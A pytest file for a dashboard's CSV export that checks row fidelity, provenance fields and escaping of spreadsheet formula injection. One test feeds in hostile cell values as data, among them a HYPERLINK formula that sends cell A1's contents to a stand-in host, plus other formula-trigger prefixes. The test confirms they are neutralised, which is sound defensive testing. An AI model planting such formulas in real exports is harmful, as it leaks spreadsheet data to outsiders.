"""What a page lets one download is what it shows."""

import csv
import io

import pytest

from dashboard.widgets.csv_button import harmless, to_csv
from tests.dashboard.conftest import CLAIMS, claims


@pytest.mark.parametrize("table", CLAIMS)
def test_the_csv_holds_exactly_the_rows_that_are_shown(any_package, table):
    rows = claims(table)
    data = to_csv(rows)
    assert data.startswith(b"\xef\xbb\xbf")  # spreadsheets take it for UTF-8
    read = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    expected = [
        {
            name: "" if cell is None else "|".join(cell) if isinstance(cell, list) else str(cell)
            for name, cell in r.items()
        }
        for r in rows
    ]
    assert read == expected


def test_the_csv_says_whose_claims_these_are_and_that_they_are_not_verified(specimen):
    (header, first, *_) = csv.reader(io.StringIO(to_csv(claims("casualties")).decode("utf-8-sig"), newline=""))
    told = dict(zip(header, first, strict=True))
    assert told["status"] == "claimed as printed; not independently verified"
    assert all(told[name] for name in ("claimed_by", "quote", "source_id", "qualifier", "date_basis"))


def test_a_text_from_a_strangers_query_is_no_formula_and_numbers_stay_numbers():
    texts = [
        '=HYPERLINK("http://x.example/?"&A1,"open")',
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "-",
        "＝1+1",
        ["=1", "b"],
    ]
    numbers = [-2, -2.5, 3, "-2.5", "+4", "-1e-3", None, True, "a=b", "“-”", ""]
    row = {f"column {n}": cell for n, cell in enumerate([*texts, *numbers])} | {"=1+1": "x"}
    made = harmless(row)
    assert list(made)[-1] == "'=1+1"
    cells = list(made.values())
    assert cells[: len(texts)] == [["'=1", "b"] if isinstance(text, list) else f"'{text}" for text in texts]
    assert cells[len(texts) : -1] == numbers


def test_published_rows_are_given_as_they_are():
    assert to_csv([{"passage": "- I. Heading", "count": -1}]).decode("utf-8-sig") == "passage,count\n- I. Heading,-1\n"
